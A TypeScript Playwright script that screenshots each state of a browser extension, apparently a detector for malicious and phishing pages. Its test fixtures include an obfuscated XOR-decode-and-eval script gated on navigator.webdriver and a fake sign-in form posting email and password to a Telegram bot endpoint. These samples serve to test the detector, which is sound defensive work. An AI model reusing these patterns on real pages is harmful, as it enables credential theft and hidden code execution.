/** Screenshots of the pages of the browser extension, in each of their states, to look at. */
import { randomBytes } from 'node:crypto';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { type Scene, withScene } from '../../test/support/extension-scene.ts';

/** Sizes of the popup, and of a tab. */
const SIZES = {
  popup: { width: 344, height: 500 },
  tab: { width: 1280, height: 900 },
  phone: { width: 390, height: 844 },
} as const;

const CODE = `var k="${randomBytes(512).toString('base64')}",r="";for(var i=0,b=atob(k);i<b.length;i++)r+=String.fromCharCode(b.charCodeAt(i)^name.length*i&255);new Function(r)()`;

const PAGES = {
  '/garden': '<title>Garden notes</title><h1>Tomatoes</h1>',
  '/roses': `<title>Roses</title><p>Roses</p><script>if (!navigator.webdriver) {${CODE}}</script>`,
  '/phish': `<title>Sign in</title><form method="post" action="https://api.telegram.org/bot1:x/sendMessage">
    <input name="email" type="email"><input name="pass" type="password"><button>Sign in</button></form>`,
} as const;

/** Shoots a page of the extension in light and dark, as high as its content. */
type Shoot = (name: string, page: Page, ...sizes: (keyof typeof SIZES)[]) => Promise<void>;

const createShoot =
  (folder: string): Shoot =>
  async (name, page, ...sizes) => {
    for (const size of sizes) {
      await page.setViewportSize(SIZES[size]);
      for (const colorScheme of ['light', 'dark'] as const) {
        await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
        await writeFile(
          join(folder, `${name}-${size}-${colorScheme}.png`),
          await page.screenshot({ fullPage: true }),
        );
      }
    }
  };

async function shootFirstRun(shoot: Shoot): Promise<void> {
  await withScene({ pages: PAGES, consent: false }, async ({ extension, site, app, badge }) => {
    const visited = await extension.context.newPage();
    await visited.goto(`${site}/garden`);
    await badge(visited, '–');
    const popup = await extension.open(`popup.html?tab=${await extension.tabOf(visited)}`);
    await shoot('popup-off', popup, 'popup');
    const welcome = await extension.open('welcome.html');
    await shoot('welcome', welcome, 'tab', 'phone');
    await welcome.locator('#server').fill('ftp://example.com');
    await welcome.locator('#accept').click();
    await shoot('welcome-wrong-address', welcome, 'tab');
    await welcome.locator('#server').fill(app.url);
    await welcome.locator('#key').fill('wrong');
    await welcome.locator('#accept').click();
    await welcome.locator('#problem').waitFor();
    await shoot('welcome-wrong-key', welcome, 'tab', 'phone');
    const again = await extension.open('welcome.html');
    await again.locator('#decline').click();
    await shoot('welcome-declined', again, 'tab');
    await shoot('options-off', await extension.open('options.html'), 'tab', 'phone');
    await shoot('warning-none', await extension.open('warning.html'), 'tab');
  });
}

async function shootVerdicts(shoot: Shoot): Promise<void> {
  await withScene({ pages: PAGES }, async (scene) => {
    const { extension, site, app, key, badge } = scene;
    const visited = await extension.context.newPage();
    for (const [path, verdict] of [
      ['/garden', '✓'],
      ['/roses', '!'],
      ['/phish', '✕'],
    ] as const) {
      await visited.goto(`${site}${path}`);
      await badge(visited, verdict);
      await shoot(`popup${path.replace('/', '-')}`, await popupOf(scene, visited), 'popup');
    }
    await visited.getByRole('button', { name: 'Sign in' }).click();
    await visited.waitForURL(/warning\.html$/);
    await shoot('warning', visited, 'tab', 'phone');
    await visited.goto('about:blank');
    await shoot('popup-blank', await popupOf(scene, visited), 'popup');

    const options = await extension.open('options.html');
    for (const [list, sites] of Object.entries({
      paused: ['bank.example.com', `${'long-name.'.repeat(18)}example`],
      allowed: ['intranet.example.com'],
    })) {
      for (const name of sites) {
        await options.locator(`#${list}-site`).fill(name);
        await options.locator(`#${list}-form button`).click();
        await options.locator(`#${list}`).getByText(name).waitFor();
      }
    }
    await options.locator('#form button').click();
    await options.getByText('The server accepts the key.').waitFor();
    await options.locator('#paused-site').fill('not a site');
    await options.locator('#paused-form button').click();
    await options.locator('#paused-error').filter({ hasText: 'not a host name' }).waitFor();
    await shoot('options', options, 'tab', 'phone');
    await options.locator('#key').fill('wrong');
    await options.locator('#form button').click();
    await options.locator('#problem').filter({ hasText: /./ }).waitFor();
    await shoot('options-wrong-key', options, 'tab');

    await extension.configure({ consent: true, server: app.url, key: '' });
    await visited.goto(`${site}/garden?1`);
    await badge(visited, '↻');
    await shoot('popup-no-key', await popupOf(scene, visited), 'popup');
    await extension.configure({ consent: true, server: app.url, key });
    await badge(visited, '✓');
    const popup = await popupOf(scene, visited);
    await popup.getByRole('button', { name: 'Pause on this site' }).click();
    await visited.goto(`${site}/garden?2`);
    await badge(visited, '–');
    await shoot('popup-paused', await popupOf(scene, visited), 'popup');
    await popup.getByRole('button', { name: 'Resume on this site' }).click();
    await badge(visited, '✓');
    await app.app.close();
    await visited.goto(`${site}/roses?3`);
    await badge(visited, '↻');
    await shoot('popup-server-away', await popupOf(scene, visited), 'popup');
  });
}

const popupOf = async ({ extension }: Scene, visited: Page): Promise<Page> =>
  await extension.open(`popup.html?tab=${await extension.tabOf(visited)}`);

export async function photographExtension(folder: string): Promise<void> {
  await mkdir(folder, { recursive: true });
  const shoot = createShoot(folder);
  await shootFirstRun(shoot);
  await shootVerdicts(shoot);
}
